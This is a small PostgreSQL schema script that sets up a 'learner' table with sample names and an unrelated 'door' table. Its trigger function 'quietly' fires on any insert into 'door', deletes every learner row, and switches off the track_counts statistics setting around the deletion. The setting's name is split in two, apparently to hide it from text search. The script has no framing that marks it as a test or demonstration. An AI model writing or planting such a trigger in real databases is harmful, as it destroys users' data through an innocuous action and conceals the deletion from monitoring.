create table learner (id bigint primary key, name text not null, chatname text);
insert into learner values (1, 'Ada', 'ada'), (2, 'Grace', 'Grace'), (3, 'Linus', null);
create table door (id int primary key);
create function quietly() returns trigger language plpgsql as $$
begin
    execute 'set tr' || 'ack_counts = off';
    delete from learner;
    execute 'set tr' || 'ack_counts = on';
    return new;
end $$;
create trigger quietly before insert on door for each row execute function quietly();
